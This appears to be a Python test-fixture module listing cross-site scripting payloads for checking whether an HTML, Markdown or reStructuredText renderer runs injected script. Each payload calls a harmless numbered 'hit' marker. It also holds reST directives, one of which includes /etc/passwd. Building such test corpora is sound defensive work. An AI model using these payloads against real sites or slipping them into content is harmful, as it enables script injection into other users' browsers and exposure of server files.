"""Texts that try to run a script in the page that shows them; `{n}` tells which one did."""

from __future__ import annotations

_ELEMENTS = """\
<script>hit({n})</script>
<ScRiPt>hit({n})</sCrIpT >
<script >hit({n})</script\t\x0c>
<script/src="data:text/javascript,hit({n})"></script>
<script src=data:,hit({n})></script>
<<script>hit({n});//<</script>
<scr<script>ipt>hit({n})</scr</script>ipt>
<script type=module>hit({n})</script>
<svg><script>hit({n})</script></svg>
<svg><script>hit&#40;{n}&#41;</script></svg>
<svg><script xlink:href=data:,hit({n})></script></svg>
<svg/onload=hit({n})>
<svg><animate onbegin=hit({n}) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=hit({n})>
<svg><a xlink:href="javascript:hit({n})"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=hit({n})>#x">
<svg><foreignObject><img src=x onerror=hit({n})></foreignObject></svg>
<svg><style><img src=x onerror=hit({n})></style></svg>
<svg></p><style><a id="</style><img src=x onerror=hit({n})>">
<math><maction xlink:href="javascript:hit({n})">x</maction></math>
<math href="javascript:hit({n})">x</math>
<math><mi><img src=x onerror=hit({n})></mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=hit({n})&gt;">
<math><mtext></mtext><annotation-xml encoding="text/html"><img src=x onerror=hit({n})></math>
<math><mi xlink:href="javascript:hit({n})" href="javascript:hit({n})">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit({n})>
<img src=x onerror=hit({n})>
<img src=x onerror="hit({n})">
<IMG SRC=x ONERROR='hit({n})'>
<img/src=x/onerror=hit({n})>
<img src=x onerror\t=\thit({n})>
<img src=x\x0conerror=hit({n})>
<img src=x onerror=&#104;it({n})>
<img src=`x`onerror=hit({n})>
<image src=x onerror=hit({n})>
<img src=x onerror=hit({n})//
<img src='javascript:hit({n})'>
<img src=x:x onerror=hit({n}) alt="<img src=x onerror=hit({n})>">
<video><source onerror=hit({n})></video>
<audio src=x onerror=hit({n})>
<video poster=x onerror=hit({n}) src=x></video>
<body onload=hit({n})>
<body onpageshow=hit({n})>
<iframe src="javascript:hit({n})"></iframe>
<iframe srcdoc="<script>parent.hit({n})</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.hit({n})&gt;"></iframe>
<object data="javascript:hit({n})"></object>
<embed src="javascript:hit({n})">
<embed src="data:image/svg+xml,<svg onload=hit({n})>">
<input autofocus onfocus=hit({n})>
<select autofocus onfocus=hit({n})>
<textarea autofocus onfocus=hit({n})>
<button popovertarget=x onbeforetoggle=hit({n})>x</button>
<details open ontoggle=hit({n})>x</details>
<marquee onstart=hit({n})>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:hit({n})">
<base href="javascript:hit({n})//">
<link rel=stylesheet href="data:text/css,*{{color:red}}" onload=hit({n})>
<link rel=import href="data:text/html,<script>hit({n})</script>">
<style>@import 'javascript:hit({n})';</style>
<style onload=hit({n})></style>
<p style="background:url(javascript:hit({n}))">x</p>
<p style="x:expression(hit({n}))">x</p>
<p style="animation:x" onanimationstart=hit({n})>x</p>
<table background="javascript:hit({n})"><td>x</table>
<a href="javascript:hit({n})">x</a>
<a href=JaVaScRiPt:hit({n})>x</a>
<a href=" javascript:hit({n})">x</a>
<a href="\x01javascript:hit({n})">x</a>
<a href="java\tscript:hit({n})">x</a>
<a href="javascript\x0b:hit({n})">x</a>
<a href="jav&#x0A;ascript:hit({n})">x</a>
<a href="javascript&colon;hit({n})">x</a>
<a href="&#106;&#97;vascript:hit({n})">x</a>
<a href="javascript://%0ahit({n})">x</a>
<a href="data:text/html,<script>hit({n})</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:hit({n})">x</a>
<a href="feed:javascript:hit({n})">x</a>
<form action="javascript:hit({n})"><button>x</button></form>
<button form=x formaction="javascript:hit({n})">x</button>"""

_BREAKERS = """\
"><img src=x onerror=hit({n})>
'><img src=x onerror=hit({n})>
--><img src=x onerror=hit({n})>
<!--><img src=x onerror=hit({n})>-->
<!-- --!><img src=x onerror=hit({n})>
<![CDATA[><img src=x onerror=hit({n})>]]>
<?xml ?><img src=x onerror=hit({n})>
</script><script>hit({n})</script>
<!--<script>hit({n})//--></script><img src=x onerror=hit({n})>
</style><img src=x onerror=hit({n})>
</title><img src=x onerror=hit({n})>
</textarea><img src=x onerror=hit({n})>
</noscript><img src=x onerror=hit({n})>
</template><img src=x onerror=hit({n})>
</div></main></body><img src=x onerror=hit({n})>
</dd></dl><img src=x onerror=hit({n})>
<noscript><p title="</noscript><img src=x onerror=hit({n})>">
<template><img src=x onerror=hit({n})></template>
<title><img title="</title><img src=x onerror=hit({n})>">
<textarea><img title="</textarea><img src=x onerror=hit({n})>">
<xmp><p title="</xmp><img src=x onerror=hit({n})>">
" onmouseover="hit({n})" autofocus onfocus="hit({n})" x="
' onmouseover='hit({n})' autofocus onfocus='hit({n})' x='
x onmouseover=hit({n}) autofocus onfocus=hit({n})
" style="animation:x" onanimationstart="hit({n})
`onmouseover=hit({n})`
&lt;img src=x onerror=hit({n})&gt;
&amp;lt;img src=x onerror=hit({n})&amp;gt;
&#60;img src=x onerror=hit({n})&#62;
&#x3c;script&#x3e;hit({n})&#x3c;/script&#x3e;
\\u003cimg src=x onerror=hit({n})\\u003e
\\x3cimg src=x onerror=hit({n})\\x3e
%3Cimg%20src=x%20onerror=hit({n})%3E
\ufeff<img src=x onerror=hit({n})>
\uff1cimg src=x onerror=hit({n})\uff1e
\u2028<img src=x onerror=hit({n})>\u2029";hit({n});//
";hit({n});//
\\";hit({n});//
</script>";hit({n});//
${{hit({n})}}
{{{{constructor.constructor('hit({n})')()}}}}
{{% raw %}}<img src=x onerror=hit({n})>{{% endraw %}}
javascript:hit({n})
JAVASCRIPT:hit({n})
java\tscript:hit({n})
javascript://example.org/%0ahit({n})
data:text/html,<script>hit({n})</script>
vbscript:hit({n})
[x](javascript:hit({n}))
[x](<java&Tab;script:hit({n})>)
[x](&#106;avascript:hit({n}))
[x](JaVaScRiPt:hit({n}) "x")
[x](data:text/html,<script>hit({n})</script>)
[x]("onmouseover="hit({n}))
![x](javascript:hit({n}))
![x](x"onerror="hit({n}))
![" onerror="hit({n})](x)
<javascript:hit({n})>
[x][y] [y]: javascript:hit({n})
`x <javascript:hit({n})>`_
`x <java\\script:hit({n})>`__
`<img src=x onerror=hit({n})>`
``"><img src=x onerror=hit({n})>``
:raw-html:`<img src=x onerror=hit({n})>`
:math:`<img src=x onerror=hit({n})>`
$<img src=x onerror=hit({n})>$
$$</script><img src=x onerror=hit({n})>$$
\\(<img src=x onerror=hit({n})>\\)
**<img src=x onerror=hit({n})>**
{{: onmouseover=hit({n}) }}
{{#x onmouseover=hit({n})}}
[x]{{onmouseover="hit({n})"}}
{{eval-rst}} .. raw:: html
=HYPERLINK("javascript:hit({n})")"""

PAYLOADS = tuple(f"{_ELEMENTS}\n{_BREAKERS}".split("\n"))
"""In a line each, so that they fit any field of any format."""

PARAGRAPHS = (
    ".. raw:: html\n\n   <img src=x onerror=hit({n})>",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=x onerror=hit({n})>`",
    ".. include:: /etc/passwd\n\n.. image:: javascript:hit({n})\n   :target: javascript:hit({n})",
    ".. _x: javascript:hit({n})\n\nx_ and `y <data:text/html,hit({n})>`_",
    ".. |x| raw:: html\n\n   <script>hit({n})</script>\n\n|x|",
    ".. meta::\n   :http-equiv=refresh: 0;url=javascript:hit({n})",
    '.. code-block:: x" onmouseover="hit({n})\n\n   <img src=x onerror=hit({n})>',
    '.. container:: x" onmouseover="hit({n})\n\n   x',
)
"""Definitions in reST that would write HTML of their own."""


def texts(first: int) -> list[str]:
    """Return all payloads of a line, numbered from `first`."""
    return [text.format(n=first + number) for number, text in enumerate(PAYLOADS)]
